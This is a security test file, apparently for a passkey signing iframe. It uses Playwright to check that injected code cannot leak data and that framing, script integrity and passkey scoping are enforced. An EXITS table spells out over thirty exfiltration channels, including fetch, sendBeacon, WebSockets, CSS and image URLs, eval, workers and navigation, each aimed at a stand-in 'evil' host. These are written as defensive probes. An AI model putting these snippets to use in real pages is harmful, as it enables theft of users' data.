import { expect, test } from "vitest";
import type { Frame } from "playwright-core";
import { aNonce, Person, type Enrolled } from "./person.ts";
import { setStage } from "./stage.ts";

const stage = setStage();

/** The signer's frame, waiting for a touch that never comes: alive, with a request inside. */
async function liveFrame(): Promise<Frame> {
  const { person, site } = stage;
  const key = await person.plugIn("prf");
  const enrolled: Enrolled = await person.signUp();
  await person.present(key, false);
  await person.ask("activate", {
    serverNonce: aNonce(),
    vault: enrolled.vault,
    unlockerId: String(enrolled.vault.records[0]!["id"]),
  });
  await person.page.frameLocator(".signer-dialog iframe").getByRole("heading").waitFor();
  return person.page.frames().find((frame) => frame.url().startsWith(site.sign))!;
}

/** Every way out that a script in a page is known to have. Each either throws or is stopped; none may arrive. */
const EXITS: Record<string, (to: string) => unknown> = {
  fetch: (to) => fetch(`${to}/fetch`),
  "fetch, opaque": (to) => fetch(`${to}/opaque`, { mode: "no-cors" }),
  xhr: (to) => {
    const request = new XMLHttpRequest();
    request.open("POST", `${to}/xhr`);
    request.send("secret");
  },
  beacon: (to) => navigator.sendBeacon(`${to}/beacon`, "secret"),
  websocket: (to) => new WebSocket(`${to.replace("http", "ws")}/ws`),
  eventsource: (to) => new EventSource(`${to}/events`),
  image: (to) => (new Image().src = `${to}/image`),
  "style sheet": (to) => {
    const link = document.createElement("link");
    Object.assign(link, { rel: "stylesheet", href: `${to}/style` });
    document.head.append(link);
  },
  "style text": (to) => {
    const style = document.createElement("style");
    style.textContent = `body { background: url(${to}/css) }`;
    document.head.append(style);
  },
  "style property": (to) => (document.body.style.backgroundImage = `url(${to}/property)`),
  prefetch: (to) => {
    for (const rel of ["prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest"]) {
      const link = document.createElement("link");
      Object.assign(link, { rel, href: `${to}/${rel}`, as: "script" });
      document.head.append(link);
    }
  },
  script: (to) => {
    const script = document.createElement("script");
    script.src = `${to}/script`;
    document.head.append(script);
  },
  "inline script": (to) => {
    const script = document.createElement("script");
    script.textContent = `location = "${to}/inline"`;
    document.head.append(script);
  },
  innerHTML: (to) => (document.body.innerHTML = `<img src="${to}/markup">`),
  eval: (to) => (0, eval)(`location = "${to}/eval"`),
  "function constructor": (to) => new Function(`location = "${to}/function"`)(),
  timer: (to) => setTimeout(`location = "${to}/timer"` as never),
  import: (to) => import(/* @vite-ignore */ `${to}/module`),
  form: (to) => {
    const form = document.createElement("form");
    Object.assign(form, { action: `${to}/form`, method: "post" });
    document.body.append(form);
    form.submit();
  },
  frame: (to) => {
    const frame = document.createElement("iframe");
    frame.src = `${to}/frame`;
    document.body.append(frame);
  },
  "blank frame": (to) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    void (frame.contentWindow as never as typeof globalThis).fetch(`${to}/blank`);
  },
  object: (to) => {
    const object = document.createElement("object");
    object.data = `${to}/object`;
    document.body.append(object);
  },
  media: (to) => (new Audio().src = `${to}/media`),
  popup: (to) => window.open(`${to}/popup`),
  anchor: (to) => {
    const anchor = document.createElement("a");
    Object.assign(anchor, { href: `${to}/anchor`, target: "_blank", ping: `${to}/ping` });
    document.body.append(anchor);
    anchor.click();
  },
  worker: (to) => new Worker(`${to}/worker`),
  "blob worker": (to) => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/blob")`]))),
  "shared worker": (to) => new SharedWorker(`${to}/shared`),
  "service worker": (to) => navigator.serviceWorker.register(`${to}/service`),
  font: (to) => new FontFace("x", `url(${to}/font)`).load(),
  "top navigation": (to) => (window.top!.location.href = `${to}/top`),
  "parent message": (to) => parent.postMessage("secret", to),
  "self navigation": (to) => location.assign(`${to}/self`),
};

/** Runs the exit from a timer, as injected code would: what runs inside a debugger's call is spared some rules. */
function attempt(name: string, to: string): string {
  return `new Promise((done) => setTimeout(() => {
    try { Promise.resolve((${EXITS[name]!.toString()})(${JSON.stringify(to)})).catch(() => 0); } catch { }
    done(0);
  }, 0))`;
}

test("injectedCodeFindsNoWayOut", async () => {
  const { person, site } = stage;
  const frame = await liveFrame();
  for (const name of Object.keys(EXITS)) {
    expect(frame.url(), `before ${name}`).toBe(`${site.sign}/frame`);
    await frame.evaluate(attempt(name, site.evil)).catch(() => 0);
  }
  await person.page.waitForTimeout(2_000);
  expect(site.leaked).toEqual([]);
  expect(Object.keys(EXITS).length).toBeGreaterThan(30);
});

test("theProbesWouldBeSeenWithoutTheWalls", async () => {
  const { person, site } = stage;
  await person.page.goto(`${site.app}/`);
  for (const name of ["fetch", "image", "beacon", "style sheet", "script", "blob worker"]) {
    await person.page.evaluate(attempt(name, site.evil));
  }
  await expect.poll(() => new Set(site.leaked.map((request) => request.split("/").at(-1))).size).toBe(6);
});

test("theWorkerHasNoWayOutEither", async () => {
  const { person, site } = stage;
  const frame = await liveFrame();
  const worker = person.page.workers().find((candidate) => candidate.url().includes("/frame-"))!;
  const outcomes = await worker.evaluate(async (to) => {
    const scope = globalThis as never as Record<string, unknown>;
    const attempts: Record<string, () => unknown> = {
      fetch: () => fetch(`${to}/worker-fetch`),
      websocket: () =>
        new Promise((resolve, reject) =>
          Object.assign(new WebSocket(`${to.replace("http", "ws")}/worker-ws`), { onopen: resolve, onerror: reject }),
        ),
      eventsource: () =>
        new Promise((resolve, reject) =>
          Object.assign(new EventSource(`${to}/worker-events`), { onopen: resolve, onerror: reject }),
        ),
      importScripts: () => (scope["importScripts"] as (url: string) => void)(`${to}/worker-import`),
      eval: () => (0, eval)("1"),
    };
    const passed: string[] = [];
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        await attempt();
        passed.push(name);
      } catch {
        continue;
      }
    }
    return [...passed, ...(scope["RTCPeerConnection"] === undefined ? [] : ["RTCPeerConnection"])];
  }, site.evil);
  expect(outcomes).toEqual([]);
  expect(site.leaked).toEqual([]);
  expect(frame.isDetached()).toBe(false);
});

test("anotherSiteCannotFrameTheSigner", async () => {
  const { person, site } = stage;
  const said: string[] = [];
  person.page.on("console", (message) => said.push(message.text()));
  await person.page.goto(`${site.evil}/frames-signer`);
  await expect.poll(() => said.some((text) => text.includes("frame-ancestors"))).toBe(true);
  expect(await person.page.frames().at(1)!.locator("#main").count()).toBe(0);
});

test("aScriptChangedByOneByteDoesNotRun", async () => {
  const { person, site } = stage;
  const said: string[] = [];
  person.page.on("console", (message) => said.push(message.text()));
  site.tamper = (path, body) => (path.startsWith("/shim-") ? `${body.slice(0, -1)} ` : body);
  await person.page.goto(`${site.sign}/enroll`);
  await expect.poll(() => said.some((text) => text.includes("integrity"))).toBe(true);
  expect(await person.page.getByRole("heading").count()).toBe(0);
  site.tamper = null;
  const other = await Person.arrive(stage.browser, site);
  await other.page.goto(`${site.sign}/enroll`);
  await other.page.getByRole("heading", { name: "Open this page from your app" }).waitFor();
  await other.leave();
});

test("noPageBreaksItsOwnRules", async () => {
  const { person, site } = stage;
  const said: string[] = [];
  person.page.on("console", (message) => said.push(message.text()));
  person.page.on("pageerror", (error) => said.push(error.message));
  for (const path of ["/", "/enroll", "/recover", "/export"]) {
    await person.page.goto(`${site.sign}${path}`);
    await person.page.getByRole("heading", { name: "Open this page from your app" }).waitFor();
    expect(await person.page.evaluate(() => getComputedStyle(document.body).margin)).toBe("0px");
  }
  expect(said).toEqual([]);
});

test("aStyleOrScriptAddedToThePageDoesNotCount", async () => {
  const { person, site } = stage;
  site.tamper = (path, body) =>
    path === "/enroll" ? body.replace("</head>", "<script>window.injected = 1</script></head>") : body;
  await person.page.goto(`${site.sign}/enroll`);
  await person.page.getByRole("heading", { name: "Open this page from your app" }).waitFor();
  expect(await person.page.evaluate(() => "injected" in window)).toBe(false);
});

test("theAppCannotAskForTheSignersPasskeys", async () => {
  const { person, site } = stage;
  await person.plugIn("prf");
  await person.signUp();
  await person.page.goto(`${site.app}/`);
  for (const rpId of ["sign.allscale.localhost", "allscale.localhost"]) {
    const outcome = await person.page.evaluate(async (rpId) => {
      const publicKey = {
        challenge: new Uint8Array(32),
        rpId,
        userVerification: "required" as const,
        extensions: { prf: { eval: { first: new Uint8Array(32) } } },
      };
      return navigator.credentials.get({ publicKey, signal: AbortSignal.timeout(3_000) }).then(
        () => "opened",
        (error: Error) => error.name,
      );
    }, rpId);
    expect(outcome).not.toBe("opened");
    if (rpId.startsWith("sign.")) expect(outcome).toBe("SecurityError");
  }
});

test("aFrameWithoutPermissionCannotUsePasskeys", async () => {
  const { person, site } = stage;
  await person.plugIn("prf");
  await person.signUp();
  await person.page.goto(`${site.app}/`);
  const outcome = await person.page.evaluate(async (sign) => {
    const frame = document.createElement("iframe");
    frame.src = `${sign}/frame`;
    document.body.append(frame);
    const port = await new Promise<MessagePort>((resolve) =>
      addEventListener("message", (event) => {
        if (event.data?.type !== "signer-ready") return;
        const channel = new MessageChannel();
        frame.contentWindow!.postMessage({ type: "signer-request", v: 1 }, sign, [channel.port2]);
        resolve(channel.port1);
      }),
    );
    const text = JSON.stringify({ v: 1, kind: "login", serverNonce: "A".repeat(43) });
    port.postMessage({ type: "page", index: 0, count: 1, text });
    return new Promise<string>((resolve) => {
      port.onmessage = ({ data }) => data.type === "result" && resolve(String(data.ok));
      setTimeout(resolve, 3_000, "no answer");
    });
  }, site.sign);
  expect(outcome).not.toBe("true");
});

test("aPageOverItsSizeIsRefused", async () => {
  const { person, site } = stage;
  await person.page.goto(`${site.app}/`);
  const code = await person.page.evaluate(async (sign) => {
    const frame = document.createElement("iframe");
    frame.src = `${sign}/frame`;
    document.body.append(frame);
    return new Promise<string>((resolve) =>
      addEventListener("message", (event) => {
        if (event.data?.type !== "signer-ready") return;
        const { port1, port2 } = new MessageChannel();
        frame.contentWindow!.postMessage({ type: "signer-request", v: 1 }, sign, [port2]);
        port1.onmessage = ({ data }) => data.type === "result" && resolve(data.error.code);
        port1.postMessage({ type: "page", index: 0, count: 1, text: "x".repeat(65_537) });
      }),
    );
  }, site.sign);
  expect(code).toBe("too-large");
});
